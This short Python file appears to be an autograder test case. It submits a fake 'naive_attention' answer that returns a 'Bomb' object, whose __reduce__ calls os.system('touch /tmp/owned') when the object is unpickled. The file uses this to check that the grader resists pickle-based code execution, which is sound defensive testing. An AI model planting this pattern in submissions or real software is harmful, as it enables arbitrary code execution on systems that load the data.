"""Returns an object that would run code where it is unpickled."""

from autograder.hostile import answer

MARK = 20
TOLD = "naive_attention returned Bomb"
SOURCE = """
class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/owned",)


def naive_attention(q, k, v, softmax_scale):
    return Bomb()
"""


def edit(notebook, folder):
    answer(notebook, SOURCE)
